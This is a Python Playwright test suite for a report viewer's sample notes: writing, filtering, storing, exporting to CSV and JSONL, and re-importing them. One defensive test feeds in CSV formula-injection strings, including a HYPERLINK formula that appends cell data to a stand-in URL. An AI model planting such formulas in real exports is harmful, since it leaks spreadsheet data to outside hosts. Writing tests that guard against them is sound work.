"""Notes of a reader on samples: kept, shown, filtered, exported for other programs, and imported again."""

import csv
import json
from pathlib import Path

import pandas as pd
import pytest
from playwright.sync_api import Page, expect

from safechain_ray.report.html.write import write_report
from safechain_ray.storage import open_folder
from safechain_ray.types import Sample
from tests.browser.browser_page import Reader
from tests.made_runs.by_samples import setting, varied, write_run

SETTINGS = (setting(), setting("zerothink"))
COLUMNS = ["sample_id", "setting_id", "prompt_id", "label", "note", "time"]
NO_STORAGE = """Object.defineProperty(window, "localStorage", {
    get() { throw new DOMException("denied", "SecurityError"); },
});"""
FORMULA = '=HYPERLINK("https://example.org/?"&A1,"x")'


@pytest.fixture(scope="module")
def samples() -> list[Sample]:
    return varied(SETTINGS, 40)


@pytest.fixture(scope="module")
def report(samples, tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("run")
    write_run(folder, SETTINGS, samples)
    return Path(write_report(open_folder(str(folder))))


@pytest.fixture
def page(report: Path, open_page) -> Page:
    page = open_page(report).page
    Reader(page)
    return page


def go_to(page: Page, place: int) -> None:
    page.locator("#list li").nth(place).click()
    expect(page.locator("#list li").nth(place)).to_have_attribute("aria-selected", "true")
    prompt, number = page.locator("#list li .where").nth(place).inner_text().split(" · ")[1:]
    expect(page.locator("#sample h3")).to_have_text(f"{prompt}, sample {number}")


def write(page: Page, place: int, note: str, label: str = "") -> None:
    go_to(page, place)
    if page.get_by_role("button", name="Write a note").count():
        page.get_by_role("button", name="Write a note").click()
    page.locator("#note-label").fill(label)
    page.locator("#note-text").fill(note)


def exported(page: Page, kind: str) -> Path:
    page.get_by_role("button", name="Notes", exact=True).click()
    with page.expect_download() as downloading:
        page.get_by_role("button", name=f"Export as {kind}").click()
    page.locator("#notes").get_by_role("button", name="Close").click()
    assert downloading.value.suggested_filename == f"notes-safety-of-tiny.{kind.lower()}"
    return Path(downloading.value.path())


def imported(page: Page, file: Path) -> str:
    page.get_by_role("button", name="Notes", exact=True).click()
    page.locator("#notes-file").set_input_files(file)
    expect(page.locator("#notes-status")).not_to_be_empty()
    words = page.locator("#notes-status").inner_text()
    page.locator("#notes").get_by_role("button", name="Close").click()
    return words


def test_a_note_is_written_by_keyboard_alone_and_shown_in_the_list(page: Page):
    page.locator("#list").focus()
    page.keyboard.press("j")
    expect(page.locator("#sample h3")).to_have_text("prompt-0, sample 2")
    page.keyboard.press("n")
    expect(page.locator("#note-text")).to_be_focused()
    page.keyboard.type("j and b? No commands here.")
    expect(page.locator("#list li").nth(1).locator(".noted")).to_have_text("note")
    page.keyboard.press("Shift+Tab")
    page.keyboard.type("judge is wrong")
    expect(page.locator("#list li").nth(1).locator(".noted")).to_have_text("judge is wrong")
    page.keyboard.press("Escape")
    expect(page.locator("#sample")).to_be_focused()
    expect(page.locator("#sample h3")).to_have_text("prompt-0, sample 2")


def test_a_note_is_there_after_the_page_is_opened_again_and_no_other_run_has_it(
    report: Path, open_page, tmp_path: Path
):
    opened = open_page(report)
    page = opened.page
    Reader(page)
    write(page, 3, "Look again.", "unclear")
    page.reload()
    Reader(page)
    expect(page.locator("#list li").nth(3).locator(".noted")).to_have_text("unclear")
    go_to(page, 3)
    expect(page.locator("#note-text")).to_have_value("Look again.")
    write_run(tmp_path, SETTINGS, varied(SETTINGS, 40), [("another", "response")])
    other = Path(write_report(open_folder(str(tmp_path)))).as_uri()
    page.goto(other)
    Reader(page)
    assert page.locator(".noted").count() == 0
    opened.requests.remove(other)


def test_another_page_of_the_same_run_shows_a_note_at_once(page: Page, report: Path):
    other = page.context.new_page()
    other.goto(report.as_uri())
    Reader(other)
    write(page, 0, "Here.", "seen")
    expect(other.locator("#list li").first.locator(".noted")).to_have_text("seen")


def test_an_emptied_note_is_gone(page: Page):
    write(page, 0, "Here.")
    write(page, 0, "")
    assert page.locator(".noted").count() == 0
    page.reload()
    Reader(page)
    assert page.locator(".noted").count() == 0


def test_notes_are_filtered_by_being_there_and_by_label(page: Page):
    reader = Reader(page)
    write(page, 0, "One.", "judge is wrong")
    write(page, 4, "Two.", "unclear")
    write(page, 6, "Three.")
    for wanted, count in (("with a note", 3), ("without a note", 157), ("judge is wrong", 1), ("unclear", 1)):
        reader.filter(note=wanted)
        assert reader.found() == count
    page.get_by_role("button", name="Clear", exact=True).click()
    assert reader.found() == 160


def test_exports_have_the_sample_its_setting_its_prompt_and_the_note(page: Page, samples: list[Sample]):
    write(page, 4, 'Two "quoted" lines,\nand a comma.', "judge is wrong")
    write(page, 0, "Ünicode ☃", "unclear")
    rows = [json.loads(line) for line in exported(page, "JSONL").read_text(encoding="utf-8").splitlines()]
    table = pd.read_csv(exported(page, "CSV"), dtype=str, keep_default_na=False)
    assert list(table.columns) == list(rows[0]) == COLUMNS
    assert table.to_dict("records") == rows
    wanted = [samples[0], samples[4]]
    assert [row["sample_id"] for row in rows] == [each.sample_id for each in wanted]
    assert [row["setting_id"] for row in rows] == [each.setting_id for each in wanted]
    assert [row["prompt_id"] for row in rows] == [each.prompt_id for each in wanted]
    assert [row["note"] for row in rows] == ["Ünicode ☃", 'Two "quoted" lines,\nand a comma.']
    assert all(row["time"].endswith("Z") for row in rows)


@pytest.mark.parametrize("note", [FORMULA, "+1", "-1+1", "@SUM(A1)", "  =1", "'=1", "＝1", "\t=1"])
def test_no_cell_of_a_csv_is_a_formula_and_the_note_comes_back(page: Page, note: str):
    write(page, 0, note, label=note.strip())
    file = exported(page, "CSV")
    with file.open(encoding="utf-8-sig", newline="") as opened:
        rows = list(csv.reader(opened))
    assert not [cell for row in rows for cell in row if cell.lstrip()[:1] in set("=+-@＝")]
    write(page, 0, "")
    assert imported(page, file) == "1 imported."
    go_to(page, 1)
    go_to(page, 0)
    expect(page.locator("#note-text")).to_have_value(note)


@pytest.mark.parametrize("kind", ["JSONL", "CSV"])
def test_a_file_is_imported_into_a_browser_without_notes(page: Page, report: Path, open_page, kind: str):
    write(page, 0, "One,\n“two”.", "unclear")
    write(page, 3, "Another.")
    file = exported(page, kind)
    fresh = open_page(report).page
    Reader(fresh)
    assert imported(fresh, file) == "2 imported."
    expect(fresh.locator("#list li").first.locator(".noted")).to_have_text("unclear")
    expect(fresh.locator("#note-text")).to_have_value("One,\n“two”.")


def test_a_file_that_a_spreadsheet_saved_with_semicolons_is_read(page: Page, samples: list[Sample], tmp_path: Path):
    (tmp_path / "notes.csv").write_text(f"sample_id;label;note\r\n{samples[0].sample_id};unclear;'=1;\r\n")
    assert imported(page, tmp_path / "notes.csv") == "1 imported."
    expect(page.locator("#note-text")).to_have_value("=1")


def test_newer_notes_win_and_notes_on_unknown_samples_are_counted(page: Page, samples: list[Sample], tmp_path: Path):
    write(page, 0, "Mine.")
    rows = [
        {"sample_id": samples[0].sample_id, "note": "Older.", "time": "2020-01-01T00:00:00Z"},
        {"sample_id": samples[1].sample_id, "note": "New.", "time": "2020-01-01T00:00:00Z"},
        {"sample_id": "elsewhere", "note": "?", "time": "2020-01-01T00:00:00Z"},
    ]
    (tmp_path / "notes.jsonl").write_text("\n".join(map(json.dumps, rows)))
    assert imported(page, tmp_path / "notes.jsonl") == (
        "1 imported. 1 left out, because the note here is newer. 1 left out, because this page has no such sample."
    )
    expect(page.locator("#note-text")).to_have_value("Mine.")
    go_to(page, 1)
    expect(page.locator("#note-text")).to_have_value("New.")


@pytest.mark.parametrize("time", ["", "30.11.2026 20:00", "11/30/2126 20:00", "2126-11-30 20:00:00", "soon"])
def test_a_time_that_is_missing_or_that_a_spreadsheet_rewrote_is_the_oldest(
    page: Page, samples: list[Sample], tmp_path: Path, time: str
):
    write(page, 0, "Mine.")
    rows = [f"{each.sample_id},From the file.,{time}" for each in samples[:2]]
    (tmp_path / "notes.csv").write_text("\n".join(["sample_id,note,time", *rows]))
    assert imported(page, tmp_path / "notes.csv") == (
        "1 imported. 1 left out: no readable time says that the file is newer than the note here."
    )
    expect(page.locator("#note-text")).to_have_value("Mine.")
    write(page, 1, "Written later.")
    assert imported(page, tmp_path / "notes.csv").startswith("0 imported. 2 left out")


def test_an_empty_row_deletes_no_note(page: Page, samples: list[Sample], tmp_path: Path):
    write(page, 0, "Mine.")
    (tmp_path / "notes.csv").write_text(f"sample_id,label,note,time\n{samples[0].sample_id},,,2126-01-01T00:00:00Z\n")
    assert imported(page, tmp_path / "notes.csv") == "0 imported. 1 left out, because label and note are empty."
    expect(page.locator("#note-text")).to_have_value("Mine.")


@pytest.mark.parametrize("header", ["note,sample_id", '"note","sample_id"', "note; sample_id", "note\tsample_id"])
def test_the_columns_of_a_csv_are_in_any_order(page: Page, samples: list[Sample], tmp_path: Path, header: str):
    separator = next(each for each in ",;\t" if each in header)
    (tmp_path / "notes.csv").write_text(f"{header}\nHere.{separator}{samples[0].sample_id}\n")
    assert imported(page, tmp_path / "notes.csv") == "1 imported."
    expect(page.locator("#note-text")).to_have_value("Here.")


BROKEN = {
    "no JSON": ('{"sample_id": ', "Line 1 is not JSON."),
    "no id": ('{"note": "x"}', "Line 1 has no sample_id."),
    "a number": ('{"sample_id": "a", "note": 5}', "Line 1 has a label or a note that is no text."),
    "another table": ("a,b\n1,2\n", "The first line names no column sample_id or note."),
    "a loose quote": ('sample_id,note\n"a"b,c\n', "A quote is out of place after “sample_id,note”."),
    "a picture": ("\x89PNG\r\n\x1a\n\x00\x00", "The first line names no column sample_id or note."),
    "nothing": ("", "The first line names no column sample_id or note."),
}


@pytest.mark.parametrize("name", BROKEN)
def test_a_file_that_holds_no_notes_is_refused_with_the_fix(page: Page, tmp_path: Path, name: str):
    text, reason = BROKEN[name]
    write(page, 0, "Mine.")
    (tmp_path / "notes.csv").write_text(text, encoding="utf-8")
    assert imported(page, tmp_path / "notes.csv") == (
        f"{reason} Fix: choose a file that this page exported. No note has changed."
    )
    expect(page.locator("#note-text")).to_have_value("Mine.")


def test_without_storage_notes_last_as_long_as_the_page_and_it_says_so(report: Path, open_page):
    page = open_page(report, before=NO_STORAGE).page
    Reader(page)
    write(page, 0, "Here.", "unclear")
    expect(page.locator("#sample .note")).to_contain_text("This browser stores no notes for this page.")
    expect(page.locator("#list li").first.locator(".noted")).to_have_text("unclear")
    assert json.loads(exported(page, "JSONL").read_text())["note"] == "Here."


def test_storage_that_other_pages_wrote_into_does_no_harm(report: Path, open_page, samples: list[Sample]):
    page = open_page(report).page
    Reader(page)
    write(page, 0, "Here.")
    page.evaluate(
        """() => {
            const key = Object.keys(localStorage).find((each) => each.startsWith("safechain-note/"));
            for (const broken of ["{", "null", "5", JSON.stringify({ label: 1, note: [], time: {} })]) {
                localStorage.setItem(`${key.slice(0, key.lastIndexOf("/"))}/${broken}`, broken);
            }
            localStorage.setItem(key, "[]");
        }"""
    )
    page.reload()
    assert Reader(page).found() == len(samples)
    assert page.locator(".noted").count() == 0


def test_a_note_of_a_megabyte_is_kept(page: Page):
    long = "A word, and “another”. " * 45_000
    write(page, 0, long)
    page.reload()
    Reader(page)
    expect(page.locator("#note-text")).to_have_value(long)
